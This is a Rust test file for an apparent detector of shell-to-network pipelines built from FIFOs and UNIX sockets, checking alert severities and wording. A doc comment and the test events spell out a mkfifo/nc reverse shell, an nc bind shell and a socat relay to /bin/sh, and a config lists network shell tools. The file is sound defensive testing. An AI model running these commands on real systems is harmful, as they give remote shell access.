#![allow(clippy::unwrap_used, clippy::expect_used)]
use super::model::{basename, has};
use super::*;
use crate::detect::{filter, glob_match};
use crate::{Field, Severity, Value};
use serde_json::json;

const MS: i64 = 1_000_000;
const S: i64 = 1_000_000_000;
const T0: i64 = 1_780_000_000 * S;

fn list(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| (*s).to_string()).collect()
}

fn cats(e: &Event, c: &str) -> bool {
    has(e, Field::intern("event.category"), c)
}

fn action_in(e: &Event, a: &[&str]) -> bool {
    text(e, F.action).is_some_and(|x| a.contains(&x.as_str()))
}

fn det() -> IpcWiring {
    let shared = |e: &Event, f: &str| {
        text(e, Field::intern(f)).is_some_and(|p| {
            ["/tmp/*", "/dev/shm/*", "/var/tmp/*"]
                .iter()
                .any(|g| glob_match(g, &p, false))
        })
    };
    IpcWiring::new(WiringConfig {
        id: "w".into(),
        fifo_events: filter(move |e| {
            (has(e, Field::intern("file.type"), "fifo")
                || action_in(e, &["fifo_create", "fifo_open"]))
                && shared(e, "file.path")
        }),
        socket_events: filter(move |e| {
            action_in(e, &["unix_bind", "unix_connect", "bind", "connect"])
                && shared(e, "socket.path")
        }),
        process_events: filter(|e| {
            cats(e, "process") && (has(e, F.etype, "start") || action_in(e, &["fork", "clone"]))
        }),
        network_events: filter(|e| {
            action_in(e, &["tcp_connect", "tcp_accept", "connect", "accept"])
                && (e.get(F.dst_ip).is_some() || e.get(F.src_ip).is_some())
        }),
        shells: list(&["sh", "bash", "dash", "python3*"]),
        network_tools: list(&["nc", "ncat", "socat"]),
        writable_dirs: list(&["/tmp/*", "/dev/shm/*", "/var/tmp/*"]),
        shared_dirs: list(&["/tmp/*", "/dev/shm/*", "/var/tmp/*"]),
        ignored_paths: list(&["/tmp/.X11-unix/*"]),
        window_ns: 600 * S,
        pipeline_span_ns: S,
        decision_delay_ns: 30 * S,
        wired_severity: Severity::High,
        unwired_severity: Some(Severity::Low),
    })
}

fn ev(t_ms: i64, doc: serde_json::Value) -> Event {
    let mut d = doc;
    d["host"] = json!({"id": "h1", "name": "lab"});
    let mut e = Event::from_json(&d).unwrap();
    e.timestamp_ns = T0 + t_ms * MS;
    e
}

fn fork(t: i64, pid: i64, ppid: i64, parent_exe: &str) -> Event {
    ev(
        t,
        json!({"event": {"category": ["process"], "type": ["start"], "action": "fork"},
            "process": {"pid": pid, "executable": parent_exe, "parent": {"pid": ppid}}}),
    )
}

fn exec(t: i64, pid: i64, ppid: i64, exe: &str, args: &[&str]) -> Event {
    ev(
        t,
        json!({"event": {"category": ["process"], "type": ["start"], "action": "exec"},
            "process": {"pid": pid, "executable": exe, "name": basename(exe), "args": args,
                "parent": {"pid": ppid, "name": "bash"}}}),
    )
}

fn fifo(t: i64, pid: i64, exe: &str, action: &str, mode: Option<&str>, path: &str) -> Event {
    let mut file = json!({"path": path, "type": "fifo"});
    if let Some(m) = mode {
        file["access_mode"] = json!(m);
    }
    ev(
        t,
        json!({"event": {"category": ["file"], "action": action}, "file": file,
            "process": {"pid": pid, "executable": exe}}),
    )
}

fn tcp(t: i64, pid: i64, exe: &str, action: &str) -> Event {
    let dir = if action == "tcp_accept" {
        "ingress"
    } else {
        "egress"
    };
    let (src, dst) = if action == "tcp_accept" {
        (("10.9.9.9", 51000), ("10.0.0.5", 4444))
    } else {
        (("10.0.0.5", 51000), ("127.0.0.1", 4444))
    };
    ev(
        t,
        json!({"event": {"category": ["network"], "action": action},
            "network": {"transport": "tcp", "direction": dir},
            "source": {"ip": src.0, "port": src.1}, "destination": {"ip": dst.0, "port": dst.1},
            "process": {"pid": pid, "executable": exe}}),
    )
}

fn unix(t: i64, pid: i64, exe: &str, action: &str, path: &str) -> Event {
    ev(
        t,
        json!({"event": {"category": ["network"], "action": action},
            "network": {"transport": "unix"}, "socket": {"family": "AF_UNIX", "path": path},
            "process": {"pid": pid, "executable": exe}}),
    )
}

fn run(d: &mut IpcWiring, evs: &[Event]) -> Vec<Alert> {
    let mut out = Vec::new();
    for e in evs {
        d.on_event(e, &mut out);
        d.on_watermark(e.timestamp_ns, &mut out);
    }
    out
}

fn roles(a: &Alert) -> Vec<(String, i64)> {
    a.evidence
        .iter()
        .map(|d| {
            (
                d["sensor"]["ipc"]["role"].as_str().unwrap().to_string(),
                d["sensor"]["ipc"]["pid"].as_i64().unwrap(),
            )
        })
        .collect()
}

/// `sh -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f'` as the kernel
/// sensor shows it: forks first, `nc`'s redirection opened by its forked shell before the exec.
fn classic(net: &str) -> Vec<Event> {
    vec![
        exec(
            0,
            100,
            90,
            "/usr/bin/dash",
            &["sh", "-c", "mkfifo /tmp/f; ..."],
        ),
        fork(1, 101, 100, "/usr/bin/dash"),
        exec(2, 101, 100, "/usr/bin/mkfifo", &["mkfifo", "/tmp/f"]),
        fifo(3, 101, "/usr/bin/mkfifo", "fifo_create", None, "/tmp/f"),
        fork(5, 102, 100, "/usr/bin/dash"),
        fork(6, 103, 100, "/usr/bin/dash"),
        fork(7, 104, 100, "/usr/bin/dash"),
        exec(8, 102, 100, "/usr/bin/cat", &["cat", "/tmp/f"]),
        exec(9, 103, 100, "/usr/bin/dash", &["sh", "-i"]),
        fifo(10, 102, "/usr/bin/cat", "fifo_open", Some("read"), "/tmp/f"),
        fifo(
            10,
            104,
            "/usr/bin/dash",
            "fifo_open",
            Some("write"),
            "/tmp/f",
        ),
        exec(11, 104, 100, "/usr/bin/nc", &["nc", "127.0.0.1", "4444"]),
        tcp(12, 104, "/usr/bin/nc", net),
    ]
}

#[test]
fn classic_fifo_reverse_shell_is_high_with_every_process_named() {
    let mut d = det();
    let out = run(&mut d, &classic("tcp_connect"));
    assert_eq!(out.len(), 1, "{out:#?}");
    let a = &out[0];
    assert_eq!(a.severity, Severity::High);
    assert_eq!(a.risk_score, 73);
    let r = &a.reason;
    for want in [
        "FIFO /tmp/f lets a network peer drive a shell",
        "`sh -i` [103] sits in one pipeline with `cat /tmp/f` [102], which reads it",
        "`nc 127.0.0.1 4444` [104] writes it and connected to 127.0.0.1:4444",
        "created by `mkfifo /tmp/f` [101]",
        "cat[102] <- dash[100] <- bash[90]",
    ] {
        assert!(r.contains(want), "missing {want:?} in {r}");
    }
    let rs = roles(a);
    for want in [
        ("creator", 101),
        ("reader", 102),
        ("writer", 104),
        ("shell", 103),
        ("driver", 104),
        ("network", 104),
    ] {
        assert!(rs.contains(&(want.0.to_string(), want.1)), "{rs:?}");
    }
    let writer = a
        .evidence
        .iter()
        .find(|d| d["sensor"]["ipc"]["role"] == "writer")
        .unwrap();
    // Opened by the forked shell, shown with what it became.
    assert_eq!(writer["process"]["executable"], "/usr/bin/dash");
    assert_eq!(writer["sensor"]["ipc"]["process"], "nc 127.0.0.1 4444");
    assert_eq!(
        writer["sensor"]["ipc"]["lineage"],
        json!(["nc[104]", "dash[100]", "bash[90]"])
    );
    assert_eq!(a.join_keys, vec![json!("h1"), json!("/tmp/f")]);
    assert_eq!(a.process.as_deref(), Some("/usr/bin/dash"));
    // Nothing more later, not even the low alert.
    let mut more = Vec::new();
    d.on_watermark(T0 + 100 * S, &mut more);
    assert!(more.is_empty(), "{more:#?}");
}

#[test]
fn bind_shell_with_accepted_connection_is_high() {
    let mut evs = classic("tcp_accept");
    evs[11] = exec(11, 104, 100, "/usr/bin/nc", &["nc", "-l", "-p", "4444"]);
    let out = run(&mut det(), &evs);
    assert_eq!(out.len(), 1, "{out:#?}");
    assert!(
        out[0]
            .reason
            .contains("accepted a connection from 10.9.9.9:51000"),
        "{}",
        out[0].reason
    );
}

#[test]
fn network_tool_by_name_waits_for_its_connection_then_fires_alone() {
    let evs = &classic("tcp_connect")[..12];
    let mut d = det();
    let out = run(&mut d, evs);
    assert!(
        out.is_empty(),
        "fired before the tool could connect: {out:#?}"
    );
    let mut out = Vec::new();
    d.on_watermark(T0 + 2 * S, &mut out);
    assert_eq!(out.len(), 1);
    assert!(
        out[0].reason.contains("is the network tool nc"),
        "{}",
        out[0].reason
    );
}

#[test]
fn shell_reading_the_fifo_directly_from_a_writable_dir_driver() {
    // `/tmp/.x/agent > /tmp/p & sh < /tmp/p`
    let evs = vec![
        exec(0, 200, 1, "/usr/bin/bash", &["bash"]),
        fifo(1, 200, "/usr/bin/bash", "fifo_create", None, "/tmp/p"),
        fork(2, 201, 200, "/usr/bin/bash"),
        fork(3, 202, 200, "/usr/bin/bash"),
        exec(4, 201, 200, "/tmp/.x/agent", &["/tmp/.x/agent"]),
        fifo(5, 202, "/usr/bin/bash", "fifo_open", Some("read"), "/tmp/p"),
        fifo(
            5,
            201,
            "/tmp/.x/agent",
            "fifo_open",
            Some("write"),
            "/tmp/p",
        ),
        exec(6, 202, 200, "/usr/bin/bash", &["sh"]),
    ];
    let out = run(&mut det(), &evs);
    assert_eq!(out.len(), 1, "{out:#?}");
    assert!(
        out[0]
            .reason
            .contains("lets a program run from a writable directory drive a shell"),
        "{}",
        out[0].reason
    );
    assert!(
        out[0].reason.contains("`sh` [202] reads it"),
        "{}",
        out[0].reason
    );
}

/// `mkfifo /tmp/p; seq 1000 > /tmp/p & wc -l < /tmp/p`
fn script(consumer: (&str, &[&str])) -> Vec<Event> {
    vec![
        exec(0, 300, 1, "/usr/bin/bash", &["bash", "build.sh"]),
        fork(1, 301, 300, "/usr/bin/bash"),
        exec(2, 301, 300, "/usr/bin/mkfifo", &["mkfifo", "/tmp/p"]),
        fifo(3, 301, "/usr/bin/mkfifo", "fifo_create", None, "/tmp/p"),
        fork(5, 302, 300, "/usr/bin/bash"),
        fork(6, 303, 300, "/usr/bin/bash"),
        exec(7, 302, 300, "/usr/bin/seq", &["seq", "1000"]),
        exec(8, 303, 300, consumer.0, consumer.1),
        fifo(9, 302, "/usr/bin/seq", "fifo_open", Some("write"), "/tmp/p"),
        fifo(9, 303, consumer.0, "fifo_open", Some("read"), "/tmp/p"),
    ]
}

#[test]
fn script_fifo_is_low_once_after_the_decision_delay() {
    let mut d = det();
    let out = run(&mut d, &script(("/usr/bin/wc", &["wc", "-l"])));
    assert!(out.is_empty(), "{out:#?}");
    let mut out = Vec::new();
    d.on_watermark(T0 + 29 * S, &mut out);
    assert!(out.is_empty());
    d.on_watermark(T0 + 31 * S, &mut out);
    d.on_watermark(T0 + 40 * S, &mut out);
    assert_eq!(out.len(), 1, "{out:#?}");
    let a = &out[0];
    assert_eq!(a.severity, Severity::Low);
    assert_eq!(a.risk_score, 21);
    for want in [
        "FIFO /tmp/p passes data between local processes",
        "created by `mkfifo /tmp/p` [301]",
        "written by `seq 1000` [302]",
        "read by `wc -l` [303]",
        "No shell or interpreter is driven through it",
        "seq[302] <- bash[300]",
    ] {
        assert!(a.reason.contains(want), "missing {want:?} in {}", a.reason);
    }
    // Its timestamp is the channel's last event, not the watermark: replay equals live.
    assert_eq!(a.timestamp_ns, T0 + 9 * MS);
    let rs = roles(a);
    assert!(rs.contains(&("writer".into(), 302)) && rs.contains(&("reader".into(), 303)));
}

#[test]
fn script_fifo_read_by_a_shell_without_a_driver_stays_low() {
    let mut d = det();
    let mut out = run(&mut d, &script(("/usr/bin/bash", &["bash", "consume.sh"])));
    d.on_watermark(T0 + 60 * S, &mut out);
    assert_eq!(out.len(), 1, "{out:#?}");
    assert_eq!(out[0].severity, Severity::Low);
    assert!(
        out[0]
            .reason
            .contains("The shell or interpreter `bash consume.sh` [303] takes input from it"),
        "{}",
        out[0].reason
    );
}

#[test]
fn unwired_fifos_can_be_silenced() {
    let mut d = det();
    d.cfg.unwired_severity = None;
    let mut out = run(&mut d, &script(("/usr/bin/wc", &["wc", "-l"])));
    d.on_watermark(T0 + 60 * S, &mut out);
    assert!(out.is_empty());
}

#[test]
fn unix_socket_relay_to_a_spawned_shell_is_high() {
    // socat UNIX-LISTEN:/tmp/s EXEC:/bin/sh ; socat TCP:127.0.0.1:4444 UNIX-CONNECT:/tmp/s
    let evs = vec![
        exec(
            0,
            400,
            1,
            "/usr/bin/socat",
            &["socat", "UNIX-LISTEN:/tmp/s", "EXEC:/bin/sh"],
        ),
        unix(1, 400, "/usr/bin/socat", "unix_bind", "/tmp/s"),
        exec(
            50,
            402,
            1,
            "/usr/bin/socat",
            &["socat", "TCP:127.0.0.1:4444", "UNIX-CONNECT:/tmp/s"],
        ),
        tcp(51, 402, "/usr/bin/socat", "tcp_connect"),
        unix(52, 402, "/usr/bin/socat", "unix_connect", "/tmp/s"),
        fork(53, 401, 400, "/usr/bin/socat"),
        exec(54, 401, 400, "/bin/sh", &["sh"]),
    ];
    let out = run(&mut det(), &evs);
    assert_eq!(out.len(), 1, "{out:#?}");
    let r = &out[0].reason;
    assert!(
        r.starts_with("UNIX socket /tmp/s lets a network peer drive a shell"),
        "{r}"
    );
    assert!(r.contains("`sh` [401] was started by `socat UNIX-LISTEN:/tmp/s EXEC:/bin/sh` [400], which bound it"), "{r}");
    assert!(
        r.contains("connected to it and connected to 127.0.0.1:4444"),
        "{r}"
    );
    let rs = roles(&out[0]);
    assert!(rs.contains(&("binder".into(), 400)) && rs.contains(&("connector".into(), 402)));
}

#[test]
fn unix_socket_between_local_tools_is_silent() {
    // tmux-like: a server binds, its children are shells, a local client connects.
    let evs = vec![
        exec(0, 500, 1, "/usr/bin/tmux", &["tmux"]),
        unix(1, 500, "/usr/bin/tmux", "unix_bind", "/tmp/tmux-0/default"),
        fork(2, 501, 500, "/usr/bin/tmux"),
        exec(3, 501, 500, "/usr/bin/bash", &["-bash"]),
        exec(10, 510, 1, "/usr/bin/tmux", &["tmux", "attach"]),
        unix(
            11,
            510,
            "/usr/bin/tmux",
            "unix_connect",
            "/tmp/tmux-0/default",
        ),
    ];
    let mut d = det();
    let mut out = run(&mut d, &evs);
    d.on_watermark(T0 + 120 * S, &mut out);
    assert!(out.is_empty(), "{out:#?}");
}

#[test]
fn children_of_a_non_shell_parent_are_not_a_pipeline() {
    // A program (not a shell) runs a daemon with its control socket in /tmp, a client of it and,
    // at the same moment, a shell script of its own; it has network activity itself.
    let mut evs = vec![
        exec(0, 700, 1, "/opt/ci/runner", &["runner"]),
        tcp(1, 700, "/opt/ci/runner", "tcp_accept"),
        fork(2, 701, 700, "/opt/ci/runner"),
        exec(3, 701, 700, "/usr/bin/sensor", &["sensor", "run"]),
        unix(
            4,
            701,
            "/usr/bin/sensor",
            "unix_bind",
            "/tmp/ctl/control.sock",
        ),
        fork(5, 702, 700, "/opt/ci/runner"),
        exec(6, 702, 700, "/usr/bin/dash", &["sh", "-c", "make test"]),
        fork(7, 703, 700, "/opt/ci/runner"),
        exec(
            8,
            703,
            700,
            "/usr/bin/sensor",
            &["sensor", "alerts", "list"],
        ),
        unix(
            9,
            703,
            "/usr/bin/sensor",
            "unix_connect",
            "/tmp/ctl/control.sock",
        ),
    ];
    for e in &mut evs {
        e.set(F.pname, Value::Str("runner".into()));
    }
    let mut d = det();
    let mut out = run(&mut d, &evs);
    d.on_watermark(T0 + 120 * S, &mut out);
    assert!(out.is_empty(), "{out:#?}");
}

#[test]
fn auditd_shape_clone_execve_openat_connect() {
    // auditd: the caller's clone names the child in its exit value; execve carries ppid; openat
    // carries the access mode (decoder); connect carries the peer in destination.*.
    let clone = |t: i64, pid: i64, child: i64| {
        ev(
            t,
            json!({"event": {"category": ["process"], "action": "clone"},
            "auditd": {"log": {"exit": child.to_string()}},
            "process": {"pid": pid, "executable": "/usr/bin/bash", "name": "bash", "parent": {"pid": 1}}}),
        )
    };
    let execve = |t: i64, pid: i64, exe: &str, args: &[&str]| {
        ev(
            t,
            json!({"event": {"category": ["process"], "type": ["start"], "action": "execve"},
            "process": {"pid": pid, "executable": exe, "args": args, "parent": {"pid": 600}}}),
        )
    };
    let openat = |t: i64, pid: i64, exe: &str, mode: &str| {
        ev(
            t,
            json!({"event": {"category": ["file"], "type": ["access"], "action": "openat"},
            "file": {"path": "/tmp/f", "type": "fifo", "access_mode": mode},
            "process": {"pid": pid, "executable": exe, "parent": {"pid": 600}}}),
        )
    };
    let evs = vec![
        clone(0, 600, 601),
        clone(1, 600, 602),
        execve(2, 601, "/usr/bin/cat", &["cat", "/tmp/f"]),
        execve(2, 602, "/usr/bin/bash", &["bash", "-i"]),
        clone(3, 600, 603),
        openat(4, 601, "/usr/bin/cat", "read"),
        openat(4, 603, "/usr/bin/bash", "write"),
        execve(5, 603, "/usr/bin/ncat", &["ncat", "10.1.1.1", "443"]),
        ev(
            6,
            json!({"event": {"category": ["network"], "action": "connect", "outcome": "failure"},
            "destination": {"ip": "10.1.1.1", "port": 443},
            "process": {"pid": 603, "executable": "/usr/bin/ncat", "parent": {"pid": 600}}}),
        ),
    ];
    let out = run(&mut det(), &evs);
    assert_eq!(out.len(), 1, "{out:#?}");
    assert!(
        out[0]
            .reason
            .contains("`bash -i` [602] sits in one pipeline with `cat /tmp/f` [601]"),
        "{}",
        out[0].reason
    );
    assert!(
        out[0].reason.contains("connected to 10.1.1.1:443"),
        "{}",
        out[0].reason
    );
}

#[test]
fn execve_only_records_name_the_fifo_on_command_lines() {
    // The most common audit setup records execve alone: no FIFO, clone or connect records, no
    // parent names. The pipeline is still there in the command lines and parent pids.
    let execve = |t: i64, pid: i64, exe: &str, args: &[&str]| {
        ev(
            t,
            json!({"event": {"category": ["process"], "type": ["start"], "action": "execve"},
            "process": {"pid": pid, "executable": exe, "args": args, "parent": {"pid": 899}}}),
        )
    };
    let evs = vec![
        execve(0, 900, "/usr/bin/mkfifo", &["mkfifo", "/tmp/f"]),
        execve(30, 901, "/usr/bin/cat", &["cat", "/tmp/f"]),
        execve(31, 902, "/usr/bin/bash", &["bash", "-i"]),
        execve(32, 903, "/usr/bin/nc.openbsd", &["nc", "10.0.0.9", "4444"]),
        execve(2_000, 950, "/usr/bin/ls", &["ls"]),
    ];
    let out = run(&mut det(), &evs);
    assert_eq!(out.len(), 1, "{out:#?}");
    let r = &out[0].reason;
    assert_eq!(out[0].severity, Severity::High);
    for want in [
        "FIFO /tmp/f lets a network tool drive a shell",
        "`bash -i` [902] sits in one pipeline with `cat /tmp/f` [901], which names it on its command line",
        "`nc 10.0.0.9 4444` [903] sits in one pipeline with `cat /tmp/f` [901]",
        "is the network tool nc (its connection was not seen)",
        "created by `mkfifo /tmp/f` [900]",
    ] {
        assert!(r.contains(want), "missing {want:?} in {r}");
    }
    // A script naming its FIFO with nothing network-facing around it stays low.
    let evs = vec![
        execve(0, 910, "/usr/bin/mkfifo", &["mkfifo", "/tmp/q"]),
        execve(30, 911, "/usr/bin/gzip", &["gzip", "-c", "/tmp/q"]),
        execve(31, 912, "/usr/bin/tar", &["tar", "cf", "/tmp/q", "src"]),
        execve(40_000, 950, "/usr/bin/ls", &["ls"]),
    ];
    let out = run(&mut det(), &evs);
    assert_eq!(out.len(), 1, "{out:#?}");
    assert_eq!(out[0].severity, Severity::Low);
}

#[test]
fn bounded_and_deterministic() {
    let mut evs = Vec::new();
    for i in 0..2_000i64 {
        evs.push(fifo(
            i,
            10_000 + i,
            "/usr/bin/x",
            "fifo_create",
            None,
            &format!("/tmp/q{i}"),
        ));
    }
    let feed = |d: &mut IpcWiring| {
        let mut out = Vec::new();
        for (i, e) in evs.iter().enumerate() {
            d.on_event(e, &mut out);
            if i % 100 == 0 {
                d.on_watermark(e.timestamp_ns + 31 * S, &mut out);
            }
        }
        out
    };
    let mut d = det();
    let out = feed(&mut d);
    assert!(d.hosts["h1"].channels.len() <= MAX_CHANNELS_PER_HOST);
    assert!(d.dropped_channels > 0);
    assert!(!out.is_empty() && out.iter().all(|a| a.severity == Severity::Low));
    // Every FIFO gets its low alert once: when due, or when evicted undecided.
    let mut paths: Vec<String> = out.iter().map(|a| a.join_keys[1].to_string()).collect();
    paths.sort();
    paths.dedup();
    assert_eq!(paths.len(), out.len(), "a FIFO alerted twice");
    d.on_watermark(T0 + 100 * S, &mut Vec::new());
    let mut d2 = det();
    assert_eq!(feed(&mut d2), out);
    d.on_watermark(T0 + 3_600 * S, &mut Vec::new());
    assert!(
        d.hosts.is_empty() && d.procs == 0,
        "state left after the window"
    );
}

/// Fake pids from a remote agent, each exec with a 100 kB command line and a 10 kB executable:
/// the process table stays within its byte bound (counted exactly: the sum of its entries), says
/// what it shed, keeps no evidence event over the limit, and is empty again after the window.
#[test]
fn fake_pids_with_huge_command_lines_stay_within_the_byte_bound() {
    let mut d = det();
    let cmd = "c".repeat(100_000);
    let exe = format!("/opt/{}", "e".repeat(10_000));
    let mut out = Vec::new();
    for i in 0..5_000i64 {
        let e = exec(i, 1_000_000 + i, 999_999 + i, &exe, &[&exe, &cmd]);
        d.on_event(&e, &mut out);
        assert!(
            d.proc_bytes <= MAX_PROC_BYTES,
            "{} bytes held",
            d.proc_bytes
        );
    }
    let counted: usize = d
        .hosts
        .values()
        .flat_map(|h| h.procs.values())
        .map(|p| {
            assert_eq!(p.counted, p.bytes());
            assert!(
                p.exec.is_none(),
                "an evidence event over the limit was kept"
            );
            assert!(p.exe.as_ref().is_some_and(|x| x.len() <= MAX_IMAGE_BYTES));
            p.counted
        })
        .sum();
    assert_eq!(counted, d.proc_bytes);
    assert_eq!(d.dropped_evidence, 5_000);
    assert!(
        d.procs < 5_000 && d.procs > 1_000,
        "{} processes kept",
        d.procs
    );
    assert_eq!(d.dropped_procs, 5_000 - d.procs as u64);
    assert_eq!(d.shed(), d.dropped_procs + d.dropped_evidence);
    // Small events are still kept as evidence, and counted.
    let small = exec(6_000, 42, 1, "/bin/sh", &["sh", "-c", "true"]);
    d.on_event(&small, &mut out);
    assert!(d.hosts["h1"].procs[&42].exec.is_some());
    d.on_watermark(T0 + 3_600 * S, &mut out);
    assert!(d.hosts.is_empty() && d.procs == 0 && d.proc_bytes == 0);
}

/// The classic reverse shell from a shell that had already started 5,000 other commands (a loop):
/// still high, and judging the channel looks at no more than MAX_RELATIVES relatives of its
/// processes, whatever their number (it looked at every one, for every event of them).
#[test]
fn a_parent_with_thousands_of_children_is_judged_within_the_relatives_bound() {
    let mut d = det();
    let mut evs = vec![exec(
        -5_000,
        100,
        90,
        "/usr/bin/dash",
        &["sh", "-c", "mkfifo /tmp/f; ..."],
    )];
    for i in 0..5_000i64 {
        // Children of the reader-to-be's parent and, later, of the reader itself.
        evs.push(exec(-5_000 + i, 10_000 + i, 100, "/bin/true", &["true"]));
    }
    evs.extend(classic("tcp_connect"));
    for i in 0..2_000i64 {
        evs.push(exec(11, 20_000 + i, 102, "/bin/true", &["true"]));
    }
    let out = run(&mut d, &evs);
    assert_eq!(out.len(), 1, "{out:#?}");
    assert_eq!(out[0].severity, Severity::High);
    let h = &d.hosts["h1"];
    let ch = h.channels.values().next().unwrap();
    let parts: Vec<&model::Part> = ch.parts.iter().collect();
    let members = d.side(h, &parts, S, true);
    assert!(
        members.len() <= parts.len() + MAX_RELATIVES,
        "{} members judged",
        members.len()
    );
}
